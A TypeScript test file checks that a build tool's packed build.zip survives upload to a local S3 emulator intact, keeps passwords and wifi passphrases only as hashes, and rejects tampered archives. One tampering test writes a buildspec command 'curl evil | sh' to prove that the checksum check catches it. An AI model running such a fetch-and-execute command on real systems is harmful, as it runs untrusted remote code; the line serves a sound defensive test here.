/** build.zip up to a real s3rver and back: contents, paths, and no plaintext secret anywhere. */
import { GetObjectCommand, HeadObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { verify } from 'unixcrypt'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { wifiPsk } from '../recipe/crypt'
import { loadRecipe } from '../recipe/load'
import { startS3, type TestS3 } from '../testing/s3'
import { BUILDER_VERSION } from '../util/version'
import { BUILDSPEC_FILE, builderFiles, tarballName } from './client/builder-tarball'
import { packBuildZip } from './client/pack-build-zip'
import { uploadBuildZip } from './client/upload-build-zip'
import { checkBuildFolder } from './worker/check-build-folder'
import { unpackBuildZip } from './worker/unpack-build-zip'
import { readStatus } from './status'
import { extractZip } from './zip'

const PASSWORD = 'correct-horse-battery-staple'
const PASSPHRASE = 'wifi-secret-passphrase-42'
let s3: TestS3
let client: S3Client
let dir: string

beforeAll(async () => {
  s3 = await startS3(['pipeline'])
  client = s3.client()
  dir = await mkdtemp(path.join(os.tmpdir(), 'orchard-buildzip-'))
  const recipeDir = path.join(dir, 'project')
  await mkdir(path.join(recipeDir, 'scripts'), { recursive: true })
  await mkdir(path.join(dir, 'shared'), { recursive: true })
  await writeFile(path.join(recipeDir, 'scripts', 'setup.sh'), '#!/bin/sh\necho setup\n')
  await writeFile(path.join(recipeDir, 'motd'), 'Welcome\n')
  await writeFile(path.join(dir, 'shared', 'ca.pem'), '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')
  await writeFile(path.join(recipeDir, 'base.img'), Buffer.alloc(1 << 20, 7))
  await writeFile(
    path.join(recipeDir, 'recipe.yml'),
    [
      'name: kiosk',
      'source:',
      '  path: base.img',
      `  sha256: ${createHash('sha256').update(Buffer.alloc(1 << 20, 7)).digest('hex')}`, // packing checks it
      'arch: arm64',
      'allowFilesOutside: [../shared]', // ca.pem is outside the recipe's folder
      'users:',
      '  - name: pi',
      `    password: ${PASSWORD}`,
      '    sudo: true',
      '  - name: ops',
      'wifi:',
      '  ssid: Office',
      `  passphrase: ${PASSPHRASE}`,
      '  country: GB',
      'files:',
      '  - source: motd',
      '    target: /etc/motd',
      '    mode: "0644"',
      'firstBoot:',
      '  - scripts/setup.sh',
      'startupScripts:',
      '  resources:',
      '    - ../shared/ca.pem',
      '  everyTime:',
      '    - ./scripts/setup.sh',
      '',
    ].join('\n'),
  )
})

afterAll(async () => {
  await s3.close()
  await rm(dir, { recursive: true, force: true })
})

describe('build.zip', () => {
  it('is uploaded as the pipeline trigger and under builds/<id>/, sealed, with every referenced file', async () => {
    const loaded = await loadRecipe(path.join(dir, 'project', 'recipe.yml'))
    const now = new Date('2025-03-04T05:06:07Z')
    const packed = await packBuildZip(loaded, { dest: path.join(dir, 'out', 'build.zip'), now })
    expect(packed.id).toMatch(/^20250304-050607-[0-9a-f]{8}$/)
    execFileSync('unzip', ['-tq', packed.file]) // a zip tool that is not ours accepts it

    const progress: number[] = []
    const uploaded = await uploadBuildZip({ client, bucket: 'pipeline', packed, onProgress: (p) => progress.push(p.bytes) })
    expect(uploaded).toEqual({ id: packed.id, bucket: 'pipeline', key: `builds/${packed.id}/build.zip`, triggerKey: 'build.zip' })
    expect(progress.at(-1)).toBe(packed.bytes)

    // Both objects are the packed file, byte for byte.
    const local = await readFile(packed.file)
    for (const key of ['build.zip', `builds/${packed.id}/build.zip`]) {
      const object = await client.send(new GetObjectCommand({ Bucket: 'pipeline', Key: key }))
      expect(Buffer.from(await object.Body!.transformToByteArray()).equals(local)).toBe(true)
    }
    expect((await client.send(new HeadObjectCommand({ Bucket: 'pipeline', Key: 'build.zip' }))).Metadata).toMatchObject({ 'orchard-build-id': packed.id })
    expect(await readStatus(client, 'pipeline', packed.id)).toMatchObject({ id: packed.id, phase: 'queued', percent: 0, lastLines: [] })

    // The cloud side: unpack what the pipeline gets.
    const object = await client.send(new GetObjectCommand({ Bucket: 'pipeline', Key: 'build.zip' }))
    const downloaded = path.join(dir, 'cloud', 'build.zip')
    await mkdir(path.dirname(downloaded), { recursive: true })
    await writeFile(downloaded, await object.Body!.transformToByteArray())
    const work = path.join(dir, 'cloud', 'work')
    const unpacked = await unpackBuildZip(downloaded, work)

    expect(unpacked.manifest).toMatchObject({ format: 1, id: packed.id, createdAt: now.toISOString(), builder: { name: 'orchard', version: BUILDER_VERSION }, recipe: { name: 'kiosk' } })
    const { recipe } = unpacked
    expect(recipe.source.path).toBe('files/base.img')
    expect(recipe.files[0]!.source).toBe('files/motd')
    expect(recipe.firstBoot).toEqual(['files/scripts/setup.sh'])
    expect(recipe.startupScripts.everyTime).toEqual(['files/scripts/setup.sh'])
    expect(recipe.startupScripts.resources).toEqual(['outside/1/ca.pem'])
    expect(unpacked.manifest.files.map((f) => [f.path, f.fields])).toEqual([
      ['files/base.img', ['source.path']],
      ['files/motd', ['files[0].source']],
      ['files/scripts/setup.sh', ['firstBoot[0]', 'startupScripts.everyTime[0]']],
      ['outside/1/ca.pem', ['startupScripts.resources[0]']],
      // What runs the build in the cloud: named by no recipe field, checked like the rest.
      ['buildspec.yml', []],
      ['orchard-builder.tgz', []],
    ])
    expect(await readFile(path.join(work, 'buildspec.yml'), 'utf8')).toBe(await readFile(BUILDSPEC_FILE, 'utf8'))
    const builderNames = execFileSync('tar', ['-tzf', path.join(work, 'orchard-builder.tgz')], { encoding: 'utf8' }).trim().split('\n')
    expect(builderNames).toEqual(expect.arrayContaining(['package/package.json', 'package/package-lock.json', 'package/bin/orchard.js', 'package/builder/src/cli/main.ts', 'package/builder/src/cloud/worker/worker.ts']))
    // The same files as the builder's container image, no tests.
    expect(builderNames).toEqual((await builderFiles()).map(tarballName))
    expect(builderNames.filter((name) => name.endsWith('.test.ts'))).toEqual([])

    // The worker's check of a folder CodeBuild unpacked: hashes from disk.
    await expect(checkBuildFolder(work)).resolves.toMatchObject({ manifest: { id: packed.id } })
    await writeFile(path.join(work, 'buildspec.yml'), 'version: 0.2\nphases: { build: { commands: [curl evil | sh] } }\n')
    await expect(checkBuildFolder(work)).rejects.toMatchObject({ code: 'CHECKSUM_MISMATCH', message: expect.stringContaining('buildspec.yml does not match') })
    await writeFile(path.join(work, 'buildspec.yml'), await readFile(BUILDSPEC_FILE))
    expect(await readFile(path.join(work, 'outside/1/ca.pem'), 'utf8')).toContain('BEGIN CERTIFICATE')
    expect((await readFile(path.join(work, 'files/base.img'))).equals(Buffer.alloc(1 << 20, 7))).toBe(true)

    // Secrets only as hashes: the password as a crypt hash that verifies, wifi as its PSK.
    const [pi, ops] = recipe.users
    expect(pi!.password).toBeUndefined()
    expect(pi!.passwordHash).toMatch(/^\$6\$/)
    expect(verify(PASSWORD, pi!.passwordHash!)).toBe(true)
    expect(ops!.passwordHash).toBeUndefined()
    expect(recipe.wifi).toMatchObject({ ssid: 'Office', psk: wifiPsk('Office', PASSPHRASE) })
    expect(recipe.wifi!.passphrase).toBeUndefined()

    // And no plaintext secret in any byte: the zip as stored, and every entry decompressed.
    const raw = await mkdtemp(path.join(dir, 'raw-'))
    const entries = await extractZip(downloaded, raw)
    expect(entries.map((e) => e.name).sort()).toEqual(['build.json', 'buildspec.yml', 'files/base.img', 'files/motd', 'files/scripts/setup.sh', 'orchard-builder.tgz', 'outside/1/ca.pem', 'recipe.yml'])
    const texts = [local.toString('latin1'), ...(await Promise.all(entries.map((e) => readFile(path.join(raw, e.name), 'latin1'))))]
    for (const text of texts) {
      expect(text).not.toContain(PASSWORD)
      expect(text).not.toContain(PASSPHRASE)
    }
  })

  it('leaves no object behind when the bucket does not exist', async () => {
    const loaded = await loadRecipe(path.join(dir, 'project', 'recipe.yml'))
    const packed = await packBuildZip(loaded, { dest: path.join(dir, 'out2', 'build.zip') })
    await expect(uploadBuildZip({ client, bucket: 'missing-bucket', packed })).rejects.toMatchObject({ code: 'CLOUD_NOT_FOUND', detail: { missing: 'bucket' } })
    const listed = await client.send(new ListObjectsV2Command({ Bucket: 'pipeline', Prefix: `builds/${packed.id}/` }))
    expect(listed.KeyCount ?? 0).toBe(0)
  })

  it('refuses a build.zip whose files do not match build.json, leaving no folder', async () => {
    const loaded = await loadRecipe(path.join(dir, 'project', 'recipe.yml'))
    const packed = await packBuildZip(loaded, { dest: path.join(dir, 'out3', 'build.zip') })
    // Swap the motd for other content of the same length, repacked by a tool that is not ours.
    const tamper = path.join(dir, 'tamper')
    await mkdir(tamper)
    execFileSync('unzip', ['-q', packed.file, '-d', tamper])
    await writeFile(path.join(tamper, 'files', 'motd'), 'Welcomf\n')
    await rm(packed.file)
    execFileSync('zip', ['-qr', packed.file, '.'], { cwd: tamper })
    const target = path.join(dir, 'cloud', 'tampered')
    await expect(unpackBuildZip(packed.file, target)).rejects.toMatchObject({ code: 'CHECKSUM_MISMATCH', message: expect.stringContaining('files/motd') })
    await expect(readFile(path.join(target, 'recipe.yml'))).rejects.toMatchObject({ code: 'ENOENT' })
    expect((await import('node:fs')).readdirSync(path.join(dir, 'cloud')).filter((name) => name.startsWith('tampered'))).toEqual([])
  })

  it('refuses a recipe that names a file outside the archive', async () => {
    const loaded = await loadRecipe(path.join(dir, 'project', 'recipe.yml'))
    const packed = await packBuildZip(loaded, { dest: path.join(dir, 'out4', 'build.zip') })
    const tamper = path.join(dir, 'tamper-outside')
    await mkdir(tamper)
    execFileSync('unzip', ['-q', packed.file, '-d', tamper])
    const recipeFile = path.join(tamper, 'recipe.yml')
    await writeFile(recipeFile, (await readFile(recipeFile, 'utf8')).replace('- files/scripts/setup.sh', '- /etc/hostname'))
    await rm(packed.file)
    execFileSync('zip', ['-qr', packed.file, '.'], { cwd: tamper })
    // Loading confines every file to the archive's folder (recipe/recipe-files.ts) before the manifest check.
    await expect(unpackBuildZip(packed.file, path.join(dir, 'cloud', 'outside'))).rejects.toMatchObject({
      code: 'INVALID_RECIPE',
      message: expect.stringContaining("/etc/hostname is outside the recipe's folder"),
    })
  })
})
